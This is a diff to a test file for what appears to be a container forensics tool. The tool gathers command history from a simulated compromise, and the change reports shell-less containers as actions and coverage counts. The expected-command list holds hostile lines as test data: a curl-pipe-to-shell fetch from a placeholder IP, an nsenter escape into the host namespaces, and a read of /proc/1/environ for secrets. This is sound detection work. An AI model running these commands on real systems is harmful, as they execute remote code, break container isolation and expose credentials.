@@ -109,7 +109,10 @@ describe('the eight sources on the compromise scenario', () => {
     expect(commands).toEqual(expect.arrayContaining(['curl -s http://198.51.100.7/x.sh | sh', 'nsenter -t 1 -m -u -i -n sh', 'cat /proc/1/environ', 'kubectl auth can-i --list']));
     expect(out.rows.find((x) => x['command'] === 'nsenter -t 1 -m -u -i -n sh')).toMatchObject({ shell: 'bash', user: 'root', command_time: expect.any(String) });
     expect(out.actions).toHaveLength(cluster.execLog.length);
-    expect(out.gaps.filter((g) => g.reason === 'no-shell').length).toBeGreaterThan(0);
+    // Distroless containers: no-shell actions and a coverage count, not gaps.
+    expect(out.actions.filter((a) => a.outcome === 'no-shell').length).toBeGreaterThan(0);
+    expect((out.coverage[0] as { commandhistory: { withoutShell: number } }).commandhistory.withoutShell).toBeGreaterThan(0);
+    expect(out.gaps.filter((g) => g.reason === 'no-shell' || g.reason === 'no-history')).toEqual([]);
     expect(out.gaps.some((g) => g.reason === 'error' || g.reason === 'exec-failed')).toBe(false);
   });
 });
